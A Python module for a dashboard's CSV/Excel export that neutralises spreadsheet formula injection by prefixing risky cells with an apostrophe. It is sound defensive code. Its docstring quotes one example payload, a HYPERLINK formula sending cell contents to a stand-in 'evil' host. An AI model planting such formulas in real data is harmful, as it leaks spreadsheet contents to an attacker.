"""CSV / Excel export shared by every page, safe against formula (CSV) injection.

A cell that starts with ``= + - @`` (or a tab / carriage return / line feed, or their full-width
look-alikes) is executed as a formula by Excel and LibreOffice when the file is opened: a resident
name such as ``=HYPERLINK("http://evil/?"&A1)`` would leak the sheet. ``neutralise_formula`` prefixes
such text with an apostrophe (OWASP's recommendation): the spreadsheet shows the text as typed and
never evaluates it. Numbers, dates and booleans are left alone, so a genuine ``-5`` stays a number.

Usage from a page::

    from dashboard.components.export import excel_bytes
    st.download_button(t("common.export_excel"), excel_bytes(frame, "Tỷ lệ"), file_name="x.xlsx")

No Streamlit import here, so services and tests can build files too.
"""

from __future__ import annotations

import datetime as dt
import io
from collections.abc import Sequence
from typing import Any

import pandas as pd
import polars as pl

XLSX_MIME = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_MIME = "text/csv"

# ASCII triggers plus their full-width forms (U+FF1D/U+FF0B/U+FF0D/U+FF20), which some spreadsheet
# locales normalise to the ASCII operator before parsing.
_FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
_MAX_SHEET_NAME = 31  # Excel's limit
_BAD_SHEET_CHARS = str.maketrans({c: " " for c in "[]:*?/\\"})


def neutralise_formula(value: Any) -> Any:
    """Return ``value`` made inert for a spreadsheet: text that could start a formula gets a ``'``."""
    if isinstance(value, str) and value.lstrip(" ").startswith(_FORMULA_TRIGGERS):
        return "'" + value
    return value


def _as_pandas(frame: pl.DataFrame | pd.DataFrame | Sequence[dict]) -> pd.DataFrame:
    if isinstance(frame, pl.DataFrame):
        return frame.to_pandas()
    if isinstance(frame, pd.DataFrame):
        return frame.copy()
    return pd.DataFrame(list(frame))


def safe_frame(frame: pl.DataFrame | pd.DataFrame | Sequence[dict]) -> pd.DataFrame:
    """A pandas copy of ``frame`` with every text cell and every header neutralised.

    Timezone-aware datetimes are converted to naive UTC values because Excel cannot store
    time zones (openpyxl refuses them).
    """
    data = _as_pandas(frame)
    data.columns = [str(neutralise_formula(str(column))) for column in data.columns]
    for column in data.columns:
        series = data[column]
        if isinstance(series.dtype, pd.DatetimeTZDtype):
            data[column] = series.dt.tz_convert("UTC").dt.tz_localize(None)
        elif series.dtype == object or pd.api.types.is_string_dtype(series.dtype):
            data[column] = series.map(_neutralise_cell).astype(object)
    return data


def _neutralise_cell(value: Any) -> Any:
    if isinstance(value, dt.datetime) and value.tzinfo is not None:
        return value.astimezone(dt.UTC).replace(tzinfo=None)
    return neutralise_formula(value)


def _sheet_title(sheet_name: str) -> str:
    title = sheet_name.translate(_BAD_SHEET_CHARS).strip().strip("'") or "Sheet1"
    return title[:_MAX_SHEET_NAME]


def excel_bytes(frame: pl.DataFrame | pd.DataFrame | Sequence[dict], sheet_name: str = "Sheet1") -> bytes:
    """An .xlsx file (one sheet) with formula-like text neutralised; Vietnamese text kept as is."""
    data = safe_frame(frame)
    buffer = io.BytesIO()
    with pd.ExcelWriter(buffer, engine="openpyxl") as writer:
        data.to_excel(writer, sheet_name=_sheet_title(sheet_name), index=False)
        sheet = writer.sheets[_sheet_title(sheet_name)]
        for cells in sheet.iter_rows():
            for cell in cells:
                if isinstance(cell.value, str):
                    # openpyxl would otherwise store any text starting with "=" as a formula
                    cell.data_type = "s"
        for column_cells in sheet.columns:  # readable widths, capped so long addresses don't explode
            width = max((len(str(c.value)) for c in column_cells if c.value is not None), default=8)
            sheet.column_dimensions[column_cells[0].column_letter].width = min(max(width + 2, 8), 60)
    return buffer.getvalue()


def csv_bytes(frame: pl.DataFrame | pd.DataFrame | Sequence[dict]) -> bytes:
    """UTF-8 CSV with a BOM (Excel on Windows then shows Vietnamese diacritics correctly)."""
    return safe_frame(frame).to_csv(index=False).encode("utf-8-sig")
